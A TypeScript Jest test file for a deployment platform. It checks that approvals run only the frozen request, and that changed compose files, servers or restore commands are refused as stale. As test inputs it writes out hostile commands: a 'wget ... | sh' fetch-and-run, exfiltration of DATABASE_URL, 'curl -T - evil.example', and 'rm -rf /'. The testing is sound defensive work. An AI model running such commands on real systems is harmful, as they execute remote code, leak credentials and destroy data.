import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { allEvents } from './support/audit.js';
import {
  COMPOSE,
  data,
  FINGERPRINT,
  PRIVATE_KEY,
  readyService,
  runToSuccess,
} from './support/deployments.js';
import { call, cookieAuth, memberWithRole, signUp } from './support/identity.js';
import { startTestApp, type TestApp } from './support/test-app.js';

type Auth = Record<string, string>;
const OTHER_FINGERPRINT = `SHA256:${'T3RoZXIgaG9zdCBrZXkgZm9yIHRoZSByZXBpbiB0ZXN0cw'.slice(0, 43)}`;
const EVIL_COMPOSE = `${COMPOSE}    command: [sh, -c, "wget -qO- http://203.0.113.9/x | sh"]\n    environment:\n      EXFIL: \${DATABASE_URL}\n`;

interface Snapshot {
  serverId: string;
  compose: string;
  env: { name: string }[];
}

/**
 * What an approval runs, over HTTP, as a requester who wants something else to run would try:
 * a request freezes what it runs; the service changed under it makes it stale (409), never a
 * launch of what the approver did not see; approving again is held to every rule; a rollback
 * runs where the service is now, judged in that server's project.
 */
describe('approvals run what was requested', () => {
  let t: TestApp;
  let owner: Auth;
  let op: Auth;
  let op2: Auth;

  const post = (auth: Auth, name: string, input: unknown) => call(t.url, 'POST', name, auth, input);
  const request = async (serviceId: string, imageTag: string) =>
    data<{ status: string; approvalId: string }>(
      await post(op, 'triggerDeploy', { serviceId, imageTag, reason: 'release it to production' }),
    );
  const snapshotOf = async (deploymentId: string) =>
    data<{ serverId: string; snapshot: Snapshot }>(
      await call(t.url, 'GET', 'deploymentDetails', owner, { deploymentId }),
    );
  const server = async (name: string, projectId?: string) =>
    data<{ serverId: string }>(
      await post(owner, 'registerServer', {
        name,
        host: '10.0.0.3',
        sshUser: 'deploy',
        privateKey: PRIVATE_KEY,
        hostKeyFingerprint: FINGERPRINT,
        ...(projectId ? { projectId } : {}),
      }),
    ).serverId;
  const approvedServer = async (name: string) => {
    const serverId = await server(name);
    data(await post(owner, 'approveServerHostKey', { serverId, fingerprint: FINGERPRINT }));
    return serverId;
  };

  beforeAll(async () => {
    t = await startTestApp({ notes: false });
    owner = cookieAuth((await signUp(t.url, 'owner@example.com')).cookie);
    op = await memberWithRole(t.url, owner, 'op@example.com', 'operator');
    op2 = await memberWithRole(t.url, owner, 'op2@example.com', 'operator');
    data(await post(owner, 'createProject', { projectId: 'p2', name: 'Elsewhere' }));
  }, 60_000);
  afterAll(async () => t?.close());

  it('launches exactly the snapshot the request froze', async () => {
    const { serviceId } = await readyService(t.url, owner, {
      name: 'same',
      approvalRule: 'all-but-admins',
    });
    const asked = await request(serviceId, '1.2.0');
    expect(asked.status).toBe('pending_approval');
    const queue = data<{ items: { id: string; frozen: { snapshotDigest: string } }[] }>(
      await call(t.url, 'GET', 'approvalQueue', op2, { status: 'pending' }),
    );
    const shown = queue.items.find((a) => a.id === asked.approvalId)!.frozen;
    const approved = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: asked.approvalId }),
    );
    const events = await allEvents(t);
    const triggered = events.find(
      (e) => e.type === 'DeploymentTriggered' && e.data.deploymentId === approved.deploymentId,
    )!;
    const requested = events.find(
      (e) => e.type === 'ApprovalRequested' && e.data.approvalId === asked.approvalId,
    )!;
    const frozen = (requested.data.payload as { snapshot: unknown }).snapshot;
    expect(triggered.data.snapshot).toEqual(frozen);
    expect(shown.snapshotDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
  });

  it('refuses as stale a deploy whose service’s compose and env changed after the request', async () => {
    const { serviceId } = await readyService(t.url, owner, {
      name: 'exfil',
      approvalRule: 'all-but-admins',
    });
    const asked = await request(serviceId, '1.2.0');
    data(
      await post(op, 'updateService', {
        serviceId,
        compose: EVIL_COMPOSE,
        setEnv: [{ name: 'EXFIL_TO', value: 'http://203.0.113.9' }],
      }),
    );
    const approve = await post(op2, 'approveRequest', { approvalId: asked.approvalId });
    expect([approve.status, approve.body.error?.code, approve.body.error?.data?.reason]).toEqual([
      409,
      'CONFLICT',
      'stale',
    ]);
    expect(approve.body.error.message).toMatch(/changed since this request was filed/);
    const deployments = data<{ items: unknown[] }>(
      await call(t.url, 'GET', 'recentDeployments', owner, { serviceId }),
    );
    expect(deployments.items).toHaveLength(0);
    // Filed again, the request freezes the service as it is now: that one may be approved.
    const again = await request(serviceId, '1.2.0');
    expect(again.approvalId).not.toBe(asked.approvalId);
    const approved = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: again.approvalId }),
    );
    expect((await snapshotOf(approved.deploymentId)).snapshot.compose).toBe(EVIL_COMPOSE);
  });

  it('refuses as stale a deploy whose service moved to another server after the request', async () => {
    const { serviceId, serverId } = await readyService(t.url, owner, {
      name: 'mover',
      approvalRule: 'all-but-admins',
    });
    const asked = await request(serviceId, '1.2.0');
    const elsewhere = await approvedServer('mover-elsewhere');
    data(await post(owner, 'updateService', { serviceId, serverId: elsewhere }));
    const approve = await post(op2, 'approveRequest', { approvalId: asked.approvalId });
    expect([approve.status, approve.body.error?.data?.reason]).toEqual([409, 'stale']);
    // Moved back: the service is as it was, and the request may be approved; it runs there.
    data(await post(owner, 'updateService', { serviceId, serverId }));
    const approved = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: asked.approvalId }),
    );
    expect((await snapshotOf(approved.deploymentId)).serverId).toBe(serverId);
  });

  it('holds approving again to every rule: the requester cannot run their own request by retrying it', async () => {
    const { serviceId, serverId } = await readyService(t.url, owner, {
      name: 'retry',
      approvalRule: 'all-but-admins',
    });
    const asked = await request(serviceId, '1.2.0');
    // The requester makes the launch fail after someone else approves: a new host key to pin.
    data(await post(op, 'updateServer', { serverId, hostKeyFingerprint: OTHER_FINGERPRINT }));
    const failed = await post(op2, 'approveRequest', { approvalId: asked.approvalId });
    expect([failed.status, failed.body.error?.message]).toEqual([
      409,
      expect.stringMatching(/host key/),
    ]);
    data(await post(op, 'approveServerHostKey', { serverId, fingerprint: OTHER_FINGERPRINT }));
    const own = await post(op, 'approveRequest', { approvalId: asked.approvalId });
    expect([own.status, own.body.error?.code, own.body.error?.data?.rule]).toEqual([
      403,
      'FORBIDDEN',
      'two-humans',
    ]);
    const deployments = data<{ items: unknown[] }>(
      await call(t.url, 'GET', 'recentDeployments', owner, { serviceId }),
    );
    expect(deployments.items).toHaveLength(0);
    // Its approver retrying is the retry: it runs once.
    const retried = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: asked.approvalId }),
    );
    const again = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: asked.approvalId }),
    );
    expect(again.deploymentId).toBe(retried.deploymentId);
  });

  it('rolls back on the service’s current server, judged in that server’s project', async () => {
    const { serviceId, serverId: first } = await readyService(t.url, owner, { name: 'roll' });
    const v1 = data<{ deploymentId: string }>(
      await post(owner, 'triggerDeploy', { serviceId, imageTag: '1.0.0' }),
    ).deploymentId;
    await runToSuccess(t.app, v1, serviceId, 'ghcr.io/acme/api:1.0.0');
    const now = await approvedServer('roll-now');
    data(await post(owner, 'updateService', { serviceId, serverId: now }));
    // The server the service left goes to a project the operator has no role in.
    data(
      await post(owner, 'moveToProject', { kind: 'server', resourceId: first, projectId: 'p2' }),
    );
    const rolled = data<{ status: string; deploymentId: string }>(
      await post(op, 'executeRollback', { serviceId, targetDeploymentId: v1 }),
    );
    expect((await snapshotOf(rolled.deploymentId)).serverId).toBe(now);

    // An approved rollback too: frozen on the current server, run there.
    data(await post(owner, 'updateService', { serviceId, approvalRule: 'all-but-admins' }));
    const asked = data<{ approvalId: string }>(
      await post(op, 'executeRollback', {
        serviceId,
        targetDeploymentId: v1,
        reason: 'back to the version that worked',
      }),
    );
    const approved = data<{ deploymentId: string }>(
      await post(op2, 'approveRequest', { approvalId: asked.approvalId }),
    );
    expect((await snapshotOf(approved.deploymentId)).serverId).toBe(now);

    // The current server moved to that project: a rollback there is judged there.
    data(await post(owner, 'moveToProject', { kind: 'server', resourceId: now, projectId: 'p2' }));
    const refused = await post(op, 'executeRollback', {
      serviceId,
      targetDeploymentId: v1,
      reason: 'back to the version that worked, again',
    });
    expect([refused.status, refused.body.error?.code]).toEqual([403, 'FORBIDDEN']);
  });

  it('freezes a restore’s server and command: changed, it is neither approved nor run', async () => {
    const { serviceId } = await readyService(t.url, owner, { name: 'db' });
    data(await post(owner, 'updateService', { serviceId, restoreCommand: 'cat > /tmp/restored' }));
    const { backupId } = data<{ backupId: string }>(
      await post(owner, 'recordBackup', {
        serviceId,
        location: 'backups/db/1.dump',
        checksum: `sha256:${'a'.repeat(64)}`,
        sizeBytes: 10,
        takenAt: new Date().toISOString(),
      }),
    );
    const ask = () =>
      post(op, 'requestApproval', {
        action: 'restore',
        serviceId,
        backupId,
        reason: 'put the database back',
      });
    const first = data<{ approvalId: string }>(await ask());
    data(
      await post(owner, 'updateService', { serviceId, restoreCommand: 'curl -T - evil.example' }),
    );
    const stale = await post(op2, 'approveRequest', { approvalId: first.approvalId });
    expect([stale.status, stale.body.error?.data?.reason]).toEqual([409, 'stale']);

    const second = data<{ approvalId: string }>(await ask());
    data(await post(op2, 'approveRequest', { approvalId: second.approvalId }));
    data(await post(owner, 'updateService', { serviceId, restoreCommand: 'sh -c "rm -rf /"' }));
    const run = await post(op, 'restoreBackup', { backupId, approvalId: second.approvalId });
    expect([run.status, run.body.error?.data?.reason]).toEqual([409, 'stale']);
    const started = (await allEvents(t)).filter((e) => e.type === 'RestoreStarted');
    expect(started).toHaveLength(0);
  });
});
